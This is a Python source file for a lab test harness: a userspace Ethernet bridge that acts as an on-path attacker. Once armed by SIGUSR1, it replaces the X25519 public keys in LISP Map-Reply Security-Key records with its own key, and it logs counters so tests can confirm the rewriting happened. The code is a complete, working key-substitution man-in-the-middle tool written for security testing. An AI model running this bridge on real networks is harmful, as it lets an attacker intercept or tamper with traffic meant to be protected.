"""An on-path attacker for lab tests: a userspace Ethernet bridge that rewrites RFC 8061 keys.

Run inside a namespace that has two interfaces and no kernel bridging or forwarding between them:
`--inside` faces the victim xTR, `--outside` faces the underlay. Every Ethernet frame received on
one is sent unchanged out of the other (AF_PACKET raw sockets; checksums the sender left to
offload are completed first), except, once armed, IPv4/UDP frames from source port 4342 heading
inside whose payload decodes as a Map-Reply carrying a Security-Key LCAF: each 32-byte public key
in it is replaced by the attacker's own X25519 public key (same length, so nothing else moves) and
the UDP checksum is set to 0 ("no checksum", allowed for IPv4).

    mitm_bridge.py --inside in-n1u0 --outside out-n1u0 --stats /tmp/x/mitm.json [--passthrough]

`--passthrough` starts disarmed (everything forwarded unchanged); SIGUSR1 arms the rewriting.
The counters and the mode are written atomically to `--stats` (JSON) after every change, so a
test can assert that keys were really rewritten. SIGTERM stops it.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import signal
import socket
import struct
import sys
import time
from collections import Counter
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from lisp import DecodeError, MapReply, SecurityKey, decode_control
from lisp.kx_lcaf import extract_security

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
PACKET_OUTGOING = 4
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
PACKET_AUXDATA = 8
TP_STATUS_CSUMNOTREADY = 0x8
# struct tpacket_auxdata: status, len, snaplen (u32); mac, net, vlan_tci, vlan_tpid (u16)
AUXDATA = struct.Struct("=IIIHHHH")
CONTROL_PORT = 4342
KEY_LEN = 32


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def complete_checksum(frame: bytearray) -> None:
    """Fill in the TCP/UDP checksum of a frame whose sender left it to the NIC (offload)."""
    ethertype = int.from_bytes(frame[12:14], "big")
    if ethertype == ETH_P_IP and len(frame) >= 34:
        ihl = (frame[14] & 0x0F) * 4
        proto = frame[23]
        start = 14 + ihl
        end = 14 + int.from_bytes(frame[16:18], "big")
        pseudo = bytes(frame[26:34]) + struct.pack("!BBH", 0, proto, end - start)
    elif ethertype == ETH_P_IPV6 and len(frame) >= 54:
        proto = frame[20]  # no extension headers in these labs
        start = 54
        end = start + int.from_bytes(frame[18:20], "big")
        pseudo = bytes(frame[22:54]) + struct.pack("!IxxxB", end - start, proto)
    else:
        return
    offset = {6: 16, 17: 6}.get(proto)
    if offset is None or end > len(frame) or end - start < offset + 2:
        return
    frame[start + offset : start + offset + 2] = b"\0\0"
    value = checksum(pseudo + bytes(frame[start:end]))
    if proto == 17 and value == 0:
        value = 0xFFFF
    frame[start + offset : start + offset + 2] = value.to_bytes(2, "big")


def security_keys(reply: MapReply) -> list[bytes]:
    found = []
    for record in reply.records:
        for rloc in record.rlocs:
            key, _, _ = extract_security(rloc.address)
            if isinstance(key, SecurityKey):
                found.extend(k for k in key.keys if len(k) == KEY_LEN)
    return found


class Bridge:
    def __init__(self, inside: str, outside: str, stats_path: Path, armed: bool) -> None:
        self.socks = {inside: self._open(inside), outside: self._open(outside)}
        self.peer = {inside: outside, outside: inside}
        self.inside = inside
        self.stats_path = stats_path
        self.armed = armed
        self.counts: Counter[str] = Counter()
        private = X25519PrivateKey.generate()
        self.attacker_key = private.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        self.dirty = True
        self.last_write = 0.0

    @staticmethod
    def _open(ifname: str) -> socket.socket:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        sock.bind((ifname, 0))
        index = socket.if_nametoindex(ifname)
        mreq = struct.pack("iHH8s", index, PACKET_MR_PROMISC, 0, b"")
        sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, mreq)
        sock.setsockopt(SOL_PACKET, PACKET_AUXDATA, 1)
        sock.setblocking(False)
        return sock

    def arm(self, *_: object) -> None:
        self.armed = True
        self.dirty = True

    def write_stats(self) -> None:
        data = {
            "pid": os.getpid(),
            "mode": "rewrite" if self.armed else "passthrough",
            "attacker_key": self.attacker_key.hex(),
            **self.counts,
        }
        tmp = self.stats_path.with_suffix(".tmp")
        tmp.write_text(json.dumps(data))
        os.replace(tmp, self.stats_path)
        self.dirty = False
        self.last_write = time.monotonic()

    def run(self) -> None:
        self.write_stats()
        by_fd = {s.fileno(): name for name, s in self.socks.items()}
        poller = select.poll()
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        while True:
            for fd, _ in poller.poll(200):
                self._drain(by_fd[fd])
            # Counters of forwarded frames every 0.2 s; rewrites and mode changes at once.
            if self.dirty and time.monotonic() - self.last_write >= 0.2:
                self.write_stats()

    def _drain(self, ifname: str) -> None:
        sock = self.socks[ifname]
        for _ in range(256):
            try:
                data, ancdata, _, address = sock.recvmsg(65536, socket.CMSG_SPACE(AUXDATA.size))
            except BlockingIOError:
                return
            if address[2] == PACKET_OUTGOING:
                continue  # our own transmissions, seen again by the raw socket
            frame = bytearray(data)
            for level, kind, value in ancdata:
                if level == SOL_PACKET and kind == PACKET_AUXDATA:
                    status = AUXDATA.unpack_from(value.ljust(AUXDATA.size, b"\0"))[0]
                    if status & TP_STATUS_CSUMNOTREADY:
                        complete_checksum(frame)
                        self.counts["checksums-completed"] += 1
            out = self.peer[ifname]
            if self.armed and out == self.inside:
                self._maybe_rewrite(frame)
            try:
                self.socks[out].send(frame)
            except OSError as exc:
                self.counts[f"send-error-{exc.errno}"] += 1
                self.dirty = True
                continue
            self.counts[f"frames-to-{'inside' if out == self.inside else 'outside'}"] += 1
            self.dirty = True

    def _maybe_rewrite(self, frame: bytearray) -> None:
        if len(frame) < 42 or int.from_bytes(frame[12:14], "big") != ETH_P_IP:
            return
        ihl = (frame[14] & 0x0F) * 4
        if frame[23] != 17 or int.from_bytes(frame[20:22], "big") & 0x3FFF:
            return  # not UDP, or a fragment
        udp = 14 + ihl
        end = 14 + int.from_bytes(frame[16:18], "big")
        if int.from_bytes(frame[udp : udp + 2], "big") != CONTROL_PORT or end > len(frame):
            return
        payload = bytes(frame[udp + 8 : end])
        try:
            message = decode_control(payload)
        except DecodeError:
            return
        if not isinstance(message, MapReply):
            return
        keys = security_keys(message)
        if not keys:
            return
        for key in set(keys):
            payload = payload.replace(key, self.attacker_key)
        frame[udp + 8 : end] = payload
        frame[udp + 6 : udp + 8] = b"\0\0"
        self.counts["keys-rewritten"] += len(keys)
        self.counts["map-replies-rewritten"] += 1
        self.dirty = True
        print(f"rewrote {len(keys)} key(s) in a Map-Reply, nonce {message.nonce:#x}", flush=True)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--inside", required=True, help="interface facing the victim xTR")
    parser.add_argument("--outside", required=True, help="interface facing the underlay")
    parser.add_argument("--stats", required=True, type=Path, help="JSON counters written here")
    parser.add_argument("--passthrough", action="store_true", help="start disarmed (SIGUSR1 arms)")
    args = parser.parse_args()
    bridge = Bridge(args.inside, args.outside, args.stats, armed=not args.passthrough)
    signal.signal(signal.SIGUSR1, bridge.arm)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    print(f"bridging {args.inside} <-> {args.outside}, pid {os.getpid()}", flush=True)
    bridge.run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
